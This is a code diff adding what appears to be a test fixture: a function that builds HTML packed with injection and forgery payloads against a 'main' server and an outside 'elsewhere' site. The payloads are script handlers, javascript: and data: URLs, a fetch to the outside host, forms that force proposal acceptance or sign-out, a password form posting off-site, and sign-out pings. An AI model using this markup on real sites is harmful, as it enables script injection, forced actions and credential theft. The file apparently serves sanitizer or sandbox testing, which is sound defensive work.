@@ -69,3 +69,38 @@ interface Resource {
   body: string
   mimeType: string
 }
+
+const EVIL = "top.document.title='owned';window.owned=1;fetch('ELSEWHERE/script')"
+const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
+
+/** Everything that markup can do at once, or with a click, to the server `main` and the site `elsewhere`. */
+export const hostileMarkup = ({
+  main,
+  elsewhere,
+  proposal,
+}: Record<'main' | 'elsewhere' | 'proposal', string>) =>
+  `
+<base href="ELSEWHERE/">
+<script>EVIL</script>
+<img src=x onerror="EVIL"><svg onload="EVIL"><script>EVIL</script><image href="ELSEWHERE/image"/></svg>
+<link rel=prefetch href="ELSEWHERE/prefetch"><link rel=stylesheet href="ELSEWHERE/style">
+<iframe srcdoc="<script>EVIL</script><form method=post action=ELSEWHERE/srcdoc><button>Nested</button></form>"></iframe>
+<iframe src="ELSEWHERE/frame"></iframe><iframe src="javascript:EVIL"></iframe>
+<iframe src="data:text/html,<script>EVIL</script>"></iframe>
+<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">
+<form id=accept method=post enctype=text/plain action=MAIN/api/proposals/${proposal}/accept target=_top><button>Accept</button></form>
+<form id=leave method=post enctype=text/plain action=MAIN/api/sign-out><button>Leave</button></form>
+<form id=password method=post action=ELSEWHERE/password><input name=password value=typed><button>Log in</button></form>
+<form id=search method=get action=ELSEWHERE/get target=_blank><button>Search</button></form>
+<form id=run><button formaction="javascript:EVIL">Run</button></form>
+<img usemap="#map" src="${GIF}" width=300 height=40>
+<map name=map>
+<area shape=rect coords="0,0,99,40" alt=Top target=_top href=ELSEWHERE/top ping="MAIN/api/sign-out ELSEWHERE/ping">
+<area shape=rect coords="100,0,199,40" alt=Blank target=_blank href=ELSEWHERE/blank ping=MAIN/api/sign-out>
+<area shape=rect coords="200,0,299,40" alt=Script href="javascript:EVIL"></map>`
+    .replaceAll('EVIL', EVIL.replaceAll('"', '&quot;'))
+    .replaceAll('ELSEWHERE', elsewhere)
+    .replaceAll('MAIN', main)
+
+/** The forms of that markup. */
+export const FORMS = ['accept', 'leave', 'password', 'search', 'run']
